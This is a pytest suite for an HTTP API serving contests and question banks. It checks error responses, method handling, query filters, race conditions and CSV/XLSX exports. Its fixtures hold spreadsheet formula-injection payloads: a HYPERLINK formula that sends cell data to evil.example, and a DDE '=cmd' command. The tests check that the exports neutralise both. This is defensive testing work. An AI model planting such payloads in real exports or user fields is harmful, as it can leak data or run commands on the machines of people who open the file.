"""A review of the HTTP API against bad requests: every one answers the one JSON error shape
with its documented status and changes nothing. The real app on a real port, real Redis."""

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import httpx
import msgspec
import openpyxl
import pytest
import redis.asyncio
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from engine.campaigns.export import XLSX_MEDIA_TYPE
from question_bank.ids import MemberId, ProvinceId, QuestionId, UnitId
from scoring.attempts import Attempts, DrawnQuestion
from scoring.export import COLUMNS
from scoring.profiles import Profile
from scoring.window import WindowScoring
from tests.contest_helpers import live_spec, now_ms, window_spec
from tests.http_server import Api, serve_api


async def _boom(request: Request) -> Response:
    raise RuntimeError("an unexpected failure inside an endpoint")


@pytest.fixture
async def api(redis_client: redis.asyncio.Redis, key_prefix: str) -> AsyncIterator[Api]:
    async with serve_api(
        redis_client, key_prefix, routes=(Route("/test/boom", _boom, methods=["GET"]),)
    ) as served:
        yield served


def _body(spec: Any) -> dict[str, Any]:
    body: dict[str, Any] = msgspec.to_builtins(spec)
    return body


def _error(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/json"), response.text
    error: dict[str, Any] = response.json()["error"]
    assert error["code"] == code, error
    assert isinstance(error["message"], str) and error["message"]
    return error


# ---------------------------------------------------------------- numbers out of range


async def test_contest_numbers_past_64_bits_are_refused_not_a_500(api: Api) -> None:
    now = await now_ms(api.redis)
    window = _body(window_spec(now, id="big-w"))
    window["window"]["closes_at"] = 10**30
    live = _body(live_spec(now, id="big-l"))
    live["live"]["starts_at"] = 2**64 + 1
    for body, field in [(window, "window.closes_at"), (live, "live.starts_at")]:
        error = _error(await api.a.post("/api/contests", json=body), 422, "contest_invalid")
        assert [p["field"] for p in error["problems"]] == [field]
    # The same on PUT of a draft; the draft is left as it was.
    draft = await api.a.post("/api/contests", json=_body(window_spec(now, id="w")))
    assert draft.status_code == 201
    _error(await api.a.put("/api/contests/w", json=dict(window, id=None)), 422, "contest_invalid")
    assert (await api.a.get("/api/contests/w")).json() == draft.json()
    assert [c["id"] for c in (await api.a.get("/api/contests")).json()] == ["w"]


async def test_bank_numbers_past_64_bits_are_refused_not_a_500(api: Api) -> None:
    single = {
        "kind": "single",
        "id": "q",
        "text": "t",
        "options": [{"id": "a", "text": "x", "weight": 1.0}, {"id": "b", "text": "y"}],
    }
    prediction = {"kind": "prediction", "id": "p", "text": "t", "max_value": 10**30}
    bank = {"id": "huge", "title": "t", "questions": [single, prediction]}
    response = await api.a.post("/api/banks?format=json", json=bank)
    error = _error(response, 422, "bank_invalid")
    assert [p["where"].get("question") for p in error["problems"]] == ["p"]
    assert [p["where"].get("field") for p in error["problems"]] == ["max_value"]
    yaml_text = f"id: huge\ntitle: t\nquestions:\n- {msgspec.json.encode(single).decode()}\n"
    yaml_text += f"- {{kind: prediction, id: p, text: t, max_value: {10**30}}}\n"
    response = await api.a.post("/api/banks?format=yaml", content=yaml_text.encode())
    _error(response, 422, "bank_invalid")
    _error(await api.a.get("/api/banks/huge"), 404, "bank_not_found")
    # PUT over an existing bank stores no new version.
    response = await api.a.put("/api/banks/b1?format=json", json=dict(bank, id="b1"))
    _error(response, 422, "bank_invalid")
    assert (await api.a.get("/api/banks/b1/versions")).json()["versions"] == [1]


async def test_an_unexpected_error_answers_the_json_error_shape(api: Api) -> None:
    response = await api.anon.get("/test/boom")
    error = _error(response, 500, "internal")
    assert "RuntimeError" not in error["message"] and "Traceback" not in response.text


# ---------------------------------------------------------------- methods


async def test_a_method_not_allowed_names_every_allowed_one(api: Api) -> None:
    for method, path, allowed in [
        ("PATCH", "/api/banks/b1", {"GET", "HEAD", "PUT", "DELETE"}),
        ("OPTIONS", "/api/contests", {"GET", "HEAD", "POST"}),
        ("DELETE", "/public/contests/x", {"GET", "HEAD"}),
        ("GET", "/api/contests/x/schedule", {"POST"}),
        ("POST", "/healthz", {"GET", "HEAD"}),
    ]:
        response = await api.a.request(method, path)
        _error(response, 405, "http_405")
        assert set(response.headers["allow"].split(", ")) == allowed, (method, path)
    # HEAD answers as GET does, without a body.
    head = await api.a.head("/api/banks/b1")
    assert head.status_code == 200 and head.content == b""


# ---------------------------------------------------------------- results as CSV

NAMES = {
    "m1": 'Nguyễn Văn "A", con',
    "m2": "Trần\nThị B",
    "m3": '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "m4": "+84 912 345 678",
    "m5": "-2+3",
    "m6": "@SUM(A1:A9)",
    "m7": "\t=1+1",
}


async def _finalized_window(api: Api, key_prefix: str) -> None:
    now = await now_ms(api.redis)
    response = await api.a.post("/api/contests", json=_body(window_spec(now, id="wk")))
    assert response.status_code == 201, response.text
    for action in ("schedule", "start"):
        assert (await api.a.post(f"/api/contests/wk/{action}")).status_code == 200
    attempts = Attempts(api.redis, "wk", prefix=key_prefix)  # type: ignore[arg-type]
    window = WindowScoring(api.redis, "wk", key_prefix)  # type: ignore[arg-type]
    draw = [DrawnQuestion(id=QuestionId("q1"), points=10)]
    for member, name in NAMES.items():
        unit = "=cmd|' /C calc'!A0" if member == "m3" else "u1"
        profile = Profile(name=name, province=ProvinceId("hanoi"), unit=UnitId(unit))
        started = await attempts.start(MemberId(member), profile, draw, duration_ms=600_000)
        assert started.attempt is not None
        fraction = 1.0 if member == "m1" else 0.0
        await window.answer(MemberId(member), 1, QuestionId("q1"), fraction, "a", unit=unit)
    for action in ("close", "finalize"):
        assert (await api.a.post(f"/api/contests/wk/{action}")).status_code == 200


async def test_results_csv_quotes_and_guards_against_formulas(api: Api, key_prefix: str) -> None:
    await _finalized_window(api, key_prefix)
    rows = (await api.a.get("/api/contests/wk/results")).json()
    # JSON answers the names exactly as given.
    assert {r["member"]: r["name"] for r in rows} == NAMES
    response = await api.a.get("/api/contests/wk/results?format=csv")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == 'attachment; filename="wk.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [r["member"] for r in table] == [r["member"] for r in rows]
    by_member = {r["member"]: r for r in table}
    # Commas, quotes and line breaks survive quoting unchanged.
    assert by_member["m1"]["name"] == NAMES["m1"]
    assert by_member["m2"]["name"] == NAMES["m2"]
    # A cell a spreadsheet would run as a formula is shown as text: a leading apostrophe.
    for member in ("m3", "m4", "m5", "m6", "m7"):
        assert by_member[member]["name"] == "'" + NAMES[member], member
    assert by_member["m3"]["unit"] == "'=cmd|' /C calc'!A0"
    assert by_member["m1"]["unit"] == "u1"
    # Numbers are left alone.
    assert by_member["m1"]["score"] == "10" and by_member["m1"]["rank"] == "1"


async def test_results_as_xlsx_hold_the_json_figures_and_guard_text_cells(
    api: Api, key_prefix: str
) -> None:
    await _finalized_window(api, key_prefix)
    rows = (await api.a.get("/api/contests/wk/results")).json()
    response = await api.a.get("/api/contests/wk/results?format=xlsx")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
    assert response.headers["content-disposition"] == 'attachment; filename="wk.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["standings"]
    table = [list(row) for row in book["standings"].iter_rows(values_only=True)]
    assert table[0] == list(COLUMNS)
    assert len(table) == len(rows) + 1 == len(NAMES) + 1
    for line, row in zip(table[1:], rows, strict=True):
        got = dict(zip(COLUMNS, line, strict=True))
        # numbers as numbers, equal to the JSON's
        for column in ("rank", "score", "time_used_ms", "prediction"):
            assert got[column] == row[column], (column, got, row)
        assert got["submitted_at"] == row["submitted_at"]
        # a text cell a spreadsheet would run as a formula starts with an apostrophe
        for column in ("member", "name", "unit", "province"):
            text = row[column]
            guarded = "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
            assert got[column] == (guarded or None), (column, got, row)
    # the other organisation is refused, a draft has no standings, a bad format is 400
    _error(await api.b.get("/api/contests/wk/results?format=xlsx"), 403, "forbidden")
    now = await now_ms(api.redis)
    assert (await api.a.post("/api/contests", json=_body(window_spec(now, id="d1")))).is_success
    _error(await api.a.get("/api/contests/d1/results?format=xlsx"), 409, "not_finalized")
    _error(await api.a.get("/api/contests/wk/results?format=xls"), 400, "bad_message")


# ---------------------------------------------------------------- query parameters


async def test_an_unknown_state_filter_is_a_bad_request_not_an_empty_list(api: Api) -> None:
    now = await now_ms(api.redis)
    assert (await api.a.post("/api/contests", json=_body(window_spec(now, id="s1")))).is_success
    assert (await api.a.post("/api/contests/s1/schedule")).is_success
    for client, path in [(api.a, "/api/contests"), (api.anon, "/public/contests")]:
        for bad in ("bogus", "Scheduled", "scheduled,open"):
            error = _error(await client.get(path, params={"state": bad}), 400, "bad_message")
            assert "state" in error["message"]
        # An empty one is no filter (as ?version= of a bank).
        assert [c["id"] for c in (await client.get(f"{path}?state=")).json()] == ["s1"]
        listed = (await client.get(path, params={"state": "scheduled"})).json()
        assert [c["id"] for c in listed] == ["s1"]
        assert (await client.get(path, params={"state": "open"})).json() == []


def test_openapi_names_the_bank_endpoints_query_parameters() -> None:
    from engine.http import openapi

    def query(method: str, path: str) -> set[str]:
        operation = openapi.spec()["paths"][path][method]
        return {p["name"] for p in operation.get("parameters", []) if p["in"] == "query"}

    assert query("get", "/api/banks/{bank_id}") == {"version", "format"}
    assert query("post", "/api/banks") == {"format", "id", "title", "filename", "strict"}
    assert query("put", "/api/banks/{bank_id}") == {"format", "title", "filename", "strict"}


async def test_concurrent_uploads_of_one_new_bank_id_store_it_once(
    api: Api, key_prefix: str
) -> None:
    """Two organisers' tools uploading the same new id at once used to both get 201 (as
    versions 1 and 2): the existence check and the store were separate steps."""
    import asyncio

    from engine.directory.banks import BankStore
    from question_bank.formats import dumps
    from question_bank.ids import BankId, OrgId
    from tests.contest_helpers import make_bank

    body = dumps(make_bank("race"), "json").text.encode()
    responses = await asyncio.gather(
        *(api.a.post("/api/banks", content=body, params={"format": "json"}) for _ in range(12))
    )
    statuses = sorted(r.status_code for r in responses)
    assert statuses == [201] + [409] * 11, statuses
    assert {r.json()["error"]["code"] for r in responses if r.status_code == 409} == {"bank_exists"}
    store = BankStore(api.redis, key_prefix)
    assert await store.versions(OrgId("central"), BankId("race")) == [1]
    # The claim is gone: replacing and re-creating after a delete work as before.
    assert (
        await api.a.put("/api/banks/race", content=body, params={"format": "json"})
    ).status_code == 200
    assert (await api.a.delete("/api/banks/race")).status_code == 204
    again = await api.a.post("/api/banks", content=body, params={"format": "json"})
    assert again.status_code == 201 and again.json()["version"] == 3


async def test_bank_store_create_lets_one_of_two_racing_creations_store(
    redis_client: redis.asyncio.Redis, key_prefix: str
) -> None:
    """BankStore.create: two creations of one id that interleave at every await (gather
    starts both before either stores) store it once; the other is BankExists."""
    import asyncio

    from engine.core.errors import BankExists
    from engine.directory.banks import BankStore
    from question_bank.ids import BankId, OrgId
    from tests.contest_helpers import make_bank

    store = BankStore(redis_client, key_prefix)
    outcomes = await asyncio.gather(
        store.create(OrgId("o"), make_bank("twin")),
        store.create(OrgId("o"), make_bank("twin")),
        return_exceptions=True,
    )
    assert sorted(type(o).__name__ for o in outcomes) == ["BankExists", "int"]
    assert await store.versions(OrgId("o"), BankId("twin")) == [1]
    with pytest.raises(BankExists):
        await store.create(OrgId("o"), make_bank("twin"))
